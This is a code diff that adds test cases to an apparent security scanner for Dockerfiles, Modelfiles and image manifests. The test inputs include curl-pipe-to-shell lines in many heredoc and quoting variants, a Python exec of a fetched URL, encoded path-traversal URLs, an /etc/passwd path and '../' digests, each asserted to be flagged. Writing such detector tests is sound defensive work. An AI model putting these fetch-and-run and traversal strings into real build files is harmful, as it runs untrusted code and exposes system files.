@@ -55,6 +55,24 @@ test("instructions of a Dockerfile are read as Docker reads them", async () => {
     "remote-script",
   ]);
   assert.deepEqual(await of(`COPY <<EOF /x.sh\ncurl ${script} | sh\nEOF`), ["remote-script"]);
+  for (
+    const text of [
+      `RUN <<"E.F"\ncurl ${script} | sh\nE.F`,
+      `COPY <<A <<B /x/\nfoo\nA\ncurl ${script} | sh\nB`,
+      `RUN python3 <<EOF\nimport urllib.request as u\nexec(u.urlopen("${script}").read())\nEOF`,
+      `RUN echo $((1<<2))\nRUN curl ${script} | sh`,
+      `RUN echo "a <<B c"\nRUN curl ${script} | sh`,
+      `RUN cat <<< x\nRUN curl ${script} | sh\nx`,
+      `ADD ${script} /opt/run\nENTRYPOINT ["/opt/run"]`,
+      `RUN curl ${script} | tee /run.sh && sh /run.sh`,
+      `RUN curl ${script} | cat > /run.sh && sh /run.sh`,
+      `RUN curl https://raw.githubusercontent.com/nvm-sh/../a/b/x.sh | sh`,
+      `RUN curl https://raw.githubusercontent.com/nvm-sh/%2e%2E/a/b/x.sh | sh`,
+    ]
+  ) assert.deepEqual(await of(text), ["remote-script"], text);
+  assert.deepEqual(await of("RUN uv add --index a=https://packages.example.com/simple b"), [
+    "foreign-index",
+  ]);
   const windows = `# escape=\`\nFROM x\nRUN curl ${script} \`\n | sh\n`;
   assert.deepEqual(await rules("Dockerfile", windows), ["remote-script"]);
   assert.deepEqual(await of(`# RUN curl ${script} | sh`), []);
@@ -92,6 +110,19 @@ test("a Modelfile's paths and a manifest's digests are judged where they leave t
   ) {
     assert.deepEqual(await of(`from ${place}\n`), ["outside-path"], place);
   }
+  assert.deepEqual(await of('FROM """/etc/passwd"""\n'), ["outside-path"]);
+  const wide = Uint8Array.from(
+    [0xff, 0xfe, ..."FROM /a.gguf"].flatMap((it) =>
+      typeof it === "number" ? [it] : [it.charCodeAt(0), 0]
+    ),
+  );
+  assert.equal((await report("Modelfile", wide)).verdict, "suspicious");
+  const go = [
+    `\t{"schemaVersion": 2, "layers": [{"digest": "sha256:../x"}]}`,
+    `{"SchemaVersion": 2, "Layers": [{"Digest": "sha256:../x"}]}`,
+    `{"layers": [{"mediaType": "a", "digest": "sha256:../x"}]}`,
+  ];
+  for (const text of go) assert.deepEqual(await rules("latest", text), ["digest-path"], text);
   const manifest = (digest: string) =>
     rules("latest", JSON.stringify({ schemaVersion: 2, layers: [{ digest }] }));
   assert.deepEqual(await manifest(`sha256:${"a".repeat(64)}`), []);
